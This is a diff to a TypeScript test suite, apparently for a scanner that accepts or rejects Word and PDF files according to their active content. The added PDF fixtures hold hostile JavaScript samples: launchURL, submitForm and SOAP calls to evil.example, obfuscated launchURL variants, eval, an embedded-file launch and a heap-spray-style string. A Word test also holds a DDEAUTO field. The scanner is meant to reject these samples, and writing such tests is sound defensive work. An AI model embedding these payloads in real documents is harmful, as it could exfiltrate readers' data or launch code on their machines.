@@ -15,7 +15,7 @@ import {
   PROGRAM,
   packageObject,
   packageStream,
-  type pdfOf,
+  pdfOf,
 } from './acting.ts';
 import { docx, msg, paragraph, pdf, pdfLines } from './made.ts';
 
@@ -499,6 +499,7 @@ describe('what an old Word document does', () => {
     MACROS,
   );
   takes('a template of its own', 'doc', withTemplate('C:\\Templates\\Contoso.dot'));
+  takes('a template on a share of its own network', 'doc', withTemplate('\\\\Files1\\sales forms\\Quote 2002.dot'));
   takes('words about fields', 'doc', word(Buffer.from('DDEAUTO \x13 PAGE \x14 1\x15', 'latin1')));
   takes(
     'bytes of no sense',
@@ -553,7 +554,10 @@ describe('what a PDF does', () => {
   refuses(
     'one of a field that comes into view',
     'pdf',
-    onePage({ page: '/Annots[4 0 R]' }, `<</Type/Annot/Subtype/Widget/FT/Tx/AA<</PV ${script('x()')}>>>>`),
+    onePage(
+      { page: '/Annots[4 0 R]' },
+      `<</Type/Annot/Subtype/Widget/FT/Tx/AA<</PV ${script('app.launchURL("http://evil.example")')}>>>>`,
+    ),
     ACTS,
   );
   refuses('one when it is closed', 'pdf', onePage({ catalog: `/AA<</WC ${script('x()')}>>` }), ACTS);
@@ -669,6 +673,68 @@ describe('what a PDF does', () => {
     'pdf',
     open(script('this.print({bUI: true, bSilent: false, bShrinkToFit: true});')),
   );
+  const form = (...scripts: readonly string[]) =>
+    onePage(
+      {
+        catalog: `/AcroForm<</Fields[4 0 R]>>/OpenAction ${script(scripts[0] ?? '')}/Names<</JavaScript<</Names[${scripts
+          .map((_, i) => `(${i}) ${i + 5} 0 R`)
+          .join(' ')}]>>>>`,
+        page: '/Annots[4 0 R]',
+      },
+      '<</Type/Annot/Subtype/Widget/FT/Tx/T(a)>>',
+      ...scripts.map(script),
+    );
+  for (const js of [
+    'app.launchURL("http://evil.example")',
+    'app["laun" + "chURL"]("http://evil.example")',
+    'app["\\x6caunchURL"]("http://evil.example")',
+    'var a = app; this[a]("x")',
+    'eval(this.info.title)',
+    'this.submitForm("http://evil.example")',
+    'this.exportDataObject({ cName: "a", nLaunch: 2 })',
+    'SOAP.request({ cURL: "http://evil.example" })',
+    'var s = unescape("%u9090%u9090")',
+    'ADBE.Viewer_Value_New_Version_URL = "http://evil.example/reader"',
+  ])
+    refuses(`a form that is started by ${js}`, 'pdf', form(js), ACTS);
+  refuses(
+    'a form whose field reaches out when it is calculated',
+    'pdf',
+    onePage(
+      { page: '/Annots[4 0 R]' },
+      `<</Type/Annot/Subtype/Widget/FT/Tx/AA<</C ${script('app.launchURL("http://evil.example")')}>>>>`,
+    ),
+    ACTS,
+  );
+  takes(
+    'a form that dates itself, goes to its first field, and was made by Adobe’s designer',
+    'pdf',
+    form(
+      'function date() { this.getField("date").value = util.printd("dd.mm.yyyy", new Date()); }\ndate(); this.getField("a").setFocus();',
+      'if (typeof(ADBE.Reader_Need_Version) == "undefined") { ADBE.Reader_Value_New_Version_URL = "http://cgi.adobe.com/special/acrobat/update"; }',
+      'if (app.alert(ADBE.Viewer_string_Need_New_Version_Msg, 1, 1) == 1) app.launchURL(ADBE.Viewer_Value_New_Version_URL + ADBE.SYSINFO, true);',
+    ),
+  );
+  takes(
+    'a button of a form that opens its help or sends it off',
+    'pdf',
+    onePage(
+      { page: '/Annots[4 0 R]' },
+      `<</Type/Annot/Subtype/Widget/FT/Btn/A${script('this.mailDoc(true)')}/AA<</D ${script('app.launchURL("https://contoso.example/help")')}>>>>`,
+    ),
+  );
+  takes('a document that lies in it as it is, with objects of the same numbers', 'pdf', () => {
+    const inner = onePage({});
+    // The file is object 3, and so is the page in it.
+    return pdfOf([
+      '<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>>>',
+      '<</Type/Pages/Kids[5 0 R]/Count 1>>',
+      { head: '<</Type/EmbeddedFile>>', bytes: inner },
+      '<</Type/Filespec/UF(a.pdf)/EF<</F 3 0 R>>>>',
+      '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>',
+    ]);
+  });
+
   takes(
     'a form with the scripts of its fields',
     'pdf',
